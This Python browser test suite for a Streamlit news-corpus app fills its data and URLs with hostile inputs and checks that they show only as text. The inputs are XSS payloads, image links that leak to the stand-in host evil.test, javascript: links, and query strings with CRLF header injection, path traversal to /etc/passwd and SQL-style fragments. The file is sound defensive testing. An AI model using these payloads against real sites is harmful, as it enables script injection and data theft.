"""Hostile words in a corpus or a link are shown as the words they are, and do nothing (S01–S09)."""

import hashlib
import json
import shutil
from collections.abc import Callable, Iterator
from itertools import count
from pathlib import Path
from typing import Any

import pytest
import yaml
from playwright.sync_api import Browser, Page

from corpus.load import load
from tests.browser import screen
from tests.browser.conftest import StartServer
from tests.browser.harness import Server, settle, visit
from tests.browser.screen import change

LANTERN = "lantern-2022-03-24-envoy-in-kabul"
PERSIAN = "council-voice-undated-talks"
MET = "2022-03-24-kabulov-taran"
SMALL = Path(__file__).resolve().parents[1] / "small"

# Each would set window.__x, leave the page, load from elsewhere, or pose as a part of the app.
PAYLOADS = (
    "<script>window.__x=1</script>",
    "<img src=x onerror=window.__x=2>",
    '<iframe srcdoc="<script>parent.__x=3</script>"></iframe>',
    "![](http://evil.test/p.png?leak=1)",
    "[Sign in](http://evil.test)",
    "<svg onload=window.__x=4>",
    ":red-badge[VERIFIED]",
    ":material/lock:",
    '<a href="javascript:window.__x=5">Annex</a>',
    "[Annex](javascript:window.__x=6)",
    "$\\href{javascript:window.__x=7}{x}$",
    '<meta http-equiv="refresh" content="0;url=http://evil.test/">',
    '<base href="http://evil.test/">',
    '<form action="http://evil.test/"><input name=pin></form>',
    "<style>body{display:none}</style>",
    '"><b onmouseover="window.__x=8">hover</b>',
    "http://evil.test/login www.evil.test someone@evil.test",
    '=HYPERLINK("http://evil.test")',
    "{{constructor.constructor('window.__x=9')()}}",
    "**bold** `code` ~~struck~~ |a|b|",
    "\u202eteivos\u202c \u2066left\u2069",
)
TEXTS = {
    *("title", "name", "label", "definition", "note", "summary", "organisation", "author"),
    *("agency", "as_printed", "role_as_printed", "published_as_stated", "published_note"),
    *("date_note", "date_remark", "date_reasoning", "place_as_read", "what", "keywords"),
    *("not_actors", "event", "metonym", "other", "not_a_place"),
}


# ---- A corpus of hostile words ---------------------------------------------------------------


def hostile() -> Callable[[str], str]:
    """Return a function that surrounds a text with all payloads, each time another one first."""
    turn = count()

    def spoil(text: str) -> str:
        first = next(turn) % len(PAYLOADS)
        rotated = [*PAYLOADS[first:], *PAYLOADS[:first]]
        return " ".join([rotated[0], text, *rotated[1:]])

    return spoil


def spoiled(value: Any, spoil: Callable[[str], str], key: str = "") -> Any:
    if isinstance(value, dict):
        # What a line of the page is has a fixed vocabulary.
        return {k: v if "line" in value else spoiled(v, spoil, k) for k, v in value.items()}
    if isinstance(value, list):
        return [spoiled(item, spoil, key) for item in value]
    return spoil(value) if key in TEXTS else value


def rewrite(path: Path, change_: Callable[[Any], Any]) -> None:
    value = change_(yaml.load(path.read_text("utf-8"), yaml.BaseLoader))  # noqa: S506 (strings only)
    path.write_text(json.dumps(value, ensure_ascii=False, indent=1), "utf-8")  # JSON is YAML


def spoil_text(article: dict[str, Any], folder: Path) -> None:
    """Add a payload to every line of a full text, and mark it there as evidence of all sorts."""
    text = article["text"]
    file = folder / "texts" / text["file"]
    lines = file.read_text("utf-8").split("\n")
    payload = {n: PAYLOADS[n % len(PAYLOADS)] for n, line in enumerate(lines, 1) if line.strip()}
    words = "\n".join(
        f"{line} {payload[n]}" if n in payload else line for n, line in enumerate(lines, 1)
    )
    file.write_bytes(words.encode())
    text["sha256"] = hashlib.sha256(words.encode()).hexdigest()
    marked = [{"line": str(n), "quote": payload[n]} for n in payload]
    text["mentions"][0]["names"] += marked[::3]
    text["topics"][0]["passages"] += marked[1::3]
    text["quotations"] = [
        *text.get("quotations", ()),
        *({"passage": words, "kind": "direct", "note": PAYLOADS[0]} for words in marked[2::3]),
    ]


def write_claims(folder: Path, spoil: Callable[[str], str]) -> None:
    """Add a claim and a contradiction in hostile words, resting on hostile words of the text."""
    words = {"line": "11", "quote": PAYLOADS[11 % len(PAYLOADS)]}
    said = {"article": LANTERN, "passages": [words], "note": spoil("So it says.")}
    claim = {"id": "who", "claim": spoil("They met."), "about": "participants"}
    table = {"contact": MET, "claims": [claim | {"accounts": [said | {"stance": "contradicts"}]}]}
    entry = {
        "id": "who-met",
        "kind": "outside-facts",
        "about": "participants",
        "summary": spoil("Two men are one."),
        "evidence": [said],
        "outside": [{"source": spoil("A gazette"), "says": spoil("They never met.")}],
        "contacts": [MET],
        "status": "resolved",
        "resolution": spoil("They did."),
    }
    (folder / "claims").mkdir()
    (folder / "claims" / f"{MET}.yaml").write_text(json.dumps(table, ensure_ascii=False), "utf-8")
    (folder / "contradictions.yaml").write_text(json.dumps([entry], ensure_ascii=False), "utf-8")


@pytest.fixture(scope="module")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a corpus in which every text is hostile, a full text's words included."""
    data = shutil.copytree(SMALL, tmp_path_factory.mktemp("hostile") / "data")
    spoil = hostile()

    def article(record: dict[str, Any]) -> dict[str, Any]:
        extra = {"author": "Ann Onym", "agency": "Wire", "published_note": "By the masthead."}
        record = spoiled(extra | record, spoil)
        record["url"] = f'https://outlet.example/"onmouseover="window.__x=10/{record["id"]}'
        if "text" in record:
            spoil_text(record, data)
        return record

    for path in (data / "articles").glob("*.yaml"):
        rewrite(path, article)
    for path in (data / "contacts").glob("*.yaml"):
        rewrite(path, lambda record: spoiled({"date_note": "So it says."} | record, spoil))
    for path in (data / "vocabulary").glob("*.yaml"):
        notes = {"note": "Noted."} if path.stem in ("actors", "outlets") else {}
        rewrite(path, lambda found, notes=notes: spoiled([notes | one for one in found], spoil))
    write_claims(data, spoil)
    refused = {"id": "a-refused", "url": "javascript:window.__x=11", "summary": PAYLOADS[0]}
    (data / "articles" / "a-refused.yaml").write_text(json.dumps(refused), "utf-8")
    loaded = load(data)
    assert (len(loaded.articles), len(loaded.contacts), len(loaded.texts)) == (12, 10, 3)
    return data


@pytest.fixture
def server(app_server: StartServer, folder: Path) -> Server:
    return app_server(folder)


# ---- What must not happen --------------------------------------------------------------------

# Elements that hostile words would have made: each with what it is, wherever it stands.
_MADE = """() => {
  const found = [];
  const walk = (root) => {
    for (const node of root.querySelectorAll('*')) {
      if (node.shadowRoot) walk(node.shadowRoot);
      const said = node.outerHTML.slice(0, 200);
      const made = 'iframe, object, embed, base, meta, script, math, .katex, del, form';
      if (node.matches(made) && !node.matches('form.vega-bindings')) found.push(said);
      for (const {name, value} of node.attributes) {
        if (name.startsWith('on')) found.push(said);
        if (!/^(href|src|srcset|action|formaction|data|poster|xlink:href)$/.test(name)) continue;
        const address = new URL(value, location);
        if (!/^(https?|blob):$/.test(address.protocol)) found.push(said);
        if (address.host.includes('evil')) found.push(said);
      }
    }
  };
  walk(document.querySelector('[data-testid=stApp]'));
  document.querySelectorAll('#vg-tooltip-element').forEach((tip) => walk(tip));
  return found;
}"""


def assert_harmless(page: Page, home: str) -> None:
    assert page.evaluate("window.__x") is None
    assert page.url.startswith(home)
    assert page.external_requests == []  # type: ignore[attr-defined]
    assert page.evaluate(_MADE) == []
    # Streamlit draws a badge and an icon for words like these, but only in Markdown.
    assert page.get_by_test_id("stMarkdownBadge").count() == 0
    assert page.locator(".stMarkdownBadge, .stMarkdownColoredBackground").count() == 0
    assert page.get_by_test_id("stIconMaterial").get_by_text("lock", exact=True).count() == 0
    assert page.get_by_test_id("stException").count() == 0


def plain(text: str) -> str:
    """Return a text as it may be shown: without what is invisible, on one line."""
    return " ".join("".join(c for c in text if c not in "\u202e\u202c\u2066\u2069").split())


def shown(page: Page) -> str:
    return plain(screen.everything(page))


def open_all(page: Page) -> None:
    """Open every drawer of the page, one after the other."""
    for drawer in page.get_by_test_id("stExpander").locator("summary").all():
        drawer.click()
        page.wait_for_timeout(300)
        settle(page)
    for behind in page.locator("[class*='st-key-more-']").all():
        behind.get_by_role("radio", name="As a table").click()
        page.wait_for_timeout(300)
        settle(page)


PAIR = f"/compare?left={LANTERN}&right={PERSIAN}"
ENVOY = "envoy=rustam-kabulov&topic=security&outlet=lantern&place=kabul"
TALKS = "contact=2022-06-10-lake-hall-talks"
# Pages, and whether all payloads can be read there in full.
VISITS = {
    f"/?{TALKS}": True,
    f"/?{ENVOY}": False,
    f"/timeline?lanes=topic&{TALKS}": True,
    f"/timeline?article={LANTERN}": True,
    "/actors?envoy=rustam-kabulov": True,
    "/topics": False,
    f"{PAIR}&{TALKS}&excluded=shown": True,
    f"{PAIR}&section=claims&contact={MET}": True,
    f"{PAIR}&section=contradictions": True,
    f"{PAIR}&section=names": True,
    f"{PAIR}&section=quotations": True,
    f"{PAIR}&section=lineage": True,
    f"/compare?contact={MET}": True,
    f"/articles?article={LANTERN}&excluded=shown": True,
    "/about": False,
}


@pytest.mark.parametrize("link", VISITS)
def test_hostile_words_stay_words(browser: Browser, server: Server, link: str) -> None:
    with visit(browser, server.url + link) as page:
        dialogs: list[str] = []
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        open_all(page)
        for bar in page.locator("path[aria-roledescription=bar]").all()[:3]:
            bar.scroll_into_view_if_needed()
            bar.hover(force=True)
            page.wait_for_timeout(100)
        words = shown(page)
        assert_harmless(page, server.url)
        assert dialogs == []
        read = [payload for payload in PAYLOADS if plain(payload) in words]
        assert len(read) == len(PAYLOADS) if VISITS[link] else read
    assert "Traceback" not in server.log


def test_a_record_with_a_hostile_address_is_left_out_and_named(
    browser: Browser, server: Server
) -> None:
    with visit(browser, server.url + "/about") as page:
        assert "found in the data" in screen.alerts(page)
        table = page.get_by_test_id("stDataFrame").filter(has_text="Fault")
        table.scroll_into_view_if_needed()
        assert any("articles/a-refused.yaml" in cell for row in screen.rows(table) for cell in row)
        assert_harmless(page, server.url)


# ---- Hostile links ---------------------------------------------------------------------------

NOT_HERE = "is not in this corpus"
NO_DAY = "is not a day, a month or a year"
NONE_OF = "is none of"
GONE = "is not (or no longer) in this corpus"
SEVERAL = "is one of several values"
NOTHING = "means nothing here and is ignored"

QUERIES = {
    "envoy=" + "a" * 10_000: NOT_HERE,
    "envoy=zamir%00kabulov": NOT_HERE,
    "envoy=%E2%80%AEvolubak%E2%81%A6": NOT_HERE,
    "envoy=%0d%0aSet-Cookie:%20a=b": NOT_HERE,
    "envoy=%ff%fe": NOT_HERE,
    "envoy=ZAMIR-KABULOV": "did you mean “zamir-kabulov”?",
    "envoy=[Sign%20in](http://evil.test)": NOT_HERE,
    "actor=%3Cscript%3Ewindow.__x=1%3C/script%3E": NOT_HERE,
    "&".join(f"envoy=nobody-{n}" for n in range(200)): "and 81 more",
    "envoy=amir-khan-muttaqi": "is an actor, but not an envoy",
    "since=2024-02-30": NO_DAY,
    "since=0000-00-00": NO_DAY,
    "until=9999999-1-1": NO_DAY,
    "since=2023&until=2022": "nothing lies between",
    "since=2022&since=2023": SEVERAL,
    "unit=articles&unit=pairs": SEVERAL,
    "unit=tigers": NONE_OF,
    "dates=;drop%20table%20articles": NONE_OF,
    "actor_match=some": NONE_OF,
    "lanes=%2e%2e": NONE_OF,
    "by=week": NONE_OF,
    "q=%20-%22%22": "holds no word to search for",
    "q=" + "word%20" * 400: "is longer than",
    "contact=../../etc/passwd": GONE,
    "article=%3Cimg%20src=x%20onerror=window.__x=1%3E": GONE,
    "left=efe&left=khaama": SEVERAL,
    "excluded=1": "is not “shown”",
    "focus=" + "x" * 300: "is longer than 200 characters",
    "envy=zamir-kabulov": "did you mean “envoy”?",
    "page=-1&sort=;drop": NOTHING,
    "%E2%80%AEenvoy%00=x": "is no filter; did you mean “envoy”?",
    "&".join(f"k{n}=v" for n in range(900)): "and 880 more",
}


@pytest.fixture(scope="module")
def visited(browser: Browser, app_server: StartServer) -> Iterator[Page]:
    with visit(browser, app_server().url + "/articles?envoy=zamir-kabulov") as page:
        yield page


@pytest.mark.parametrize("query", QUERIES, ids=lambda query: query[:30])
def test_a_hostile_link_is_answered_calmly(
    visited: Page, app_server: StartServer, query: str
) -> None:
    screen.go(visited, f"?{query}")
    assert screen.heading(visited) == "Articles"
    assert QUERIES[query] in screen.alerts(visited)
    assert screen.sentence(visited)
    assert_harmless(visited, app_server().url)
    assert "Traceback" not in app_server().log


def test_a_hostile_link_never_widens_the_view(visited: Page) -> None:
    for query in ("envoy=nobody", "since=2024-02-30", "q=%22%22", "envy=zamir-kabulov"):
        screen.go(visited, f"?{query}")
        assert screen.sentence(visited).startswith("0 articles, 0 contacts and 0 statements")
    screen.go(visited, "?envoy=zamir-kabulov&envoy=nobody")
    assert screen.chosen(visited, "Envoy") == ["Zamir Kabulov"]
    assert screen.sentence(visited).startswith("183 articles")


def test_the_first_request_may_be_hostile_too(browser: Browser, fresh_server: StartServer) -> None:
    server = fresh_server()
    with visit(browser, server.url + "/timeline?since=2024-02-30&envoy=%00%ff&x=1") as page:
        assert NO_DAY in screen.alerts(page)
        assert NOT_HERE in screen.alerts(page)
        with change(page):
            page.get_by_role("button", name="Drop what was not understood").click()
        assert screen.alerts(page) == "" or NOTHING in screen.alerts(page)
        assert not screen.sentence(page).startswith("0 articles")
        assert "Traceback" not in server.log
